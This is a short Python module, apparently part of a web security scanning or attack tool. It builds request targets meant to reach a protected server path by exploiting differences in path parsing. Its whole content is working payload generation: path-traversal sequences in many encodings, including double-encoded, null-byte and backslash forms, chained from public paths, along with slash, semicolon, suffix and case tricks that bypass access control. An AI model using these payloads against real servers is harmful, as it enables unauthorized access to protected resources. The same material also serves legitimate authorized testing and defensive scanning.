"""Paths that one server might read in another way than the next."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterable, Sequence

_UP = ("../", "%2e%2e/", ".%2e/", "..%2f", "%2e%2e%2f", "..;/", "..\\", "..%5c", "%252e%252e/", "..%00/")
_MOST_LEADS = 3


def odd_targets(path: str, leads: Sequence[str]) -> list[str]:
    """Request targets that some server reads as a path that is protected.

    Args:
        path: the protected one.
        leads: paths that are open to everybody, from which a way back up may lead there.
    """
    rest = path.lstrip("/")
    found = [*_disguised(rest)]
    for lead in leads[:_MOST_LEADS]:
        below = lead.rstrip("/")
        depth = below.count("/")
        if depth:
            found += [f"{below}/{up * depth}{rest}" for up in _UP]
    return list(dict.fromkeys(found))


def _disguised(rest: str) -> Iterable[str]:
    yield from (f"//{rest}", f"///{rest}", f"/./{rest}", f"/%2e/{rest}", f"/x/../{rest}", f"/x/%2e%2e/{rest}")
    yield from (f"/%2f{rest}", f"/\\{rest}", f"/%5c{rest}", f"/;a=b/{rest}", f"/.;/{rest}")
    yield from (f"/{rest}%00", f"/{rest}%00.css", f"/{rest}#.css", f"/{rest}%23.css", f"/{rest}%0a")
    if rest:
        yield from (f"/%{ord(rest[0]):02x}{rest[1:]}", f"/{rest};a=b", f"/{rest}\\", f"/{rest}%2f", f"/{rest}/%2e")
        yield from (f"/%25{ord(rest[0]):02x}{rest[1:]}", f"/{rest.upper()}")
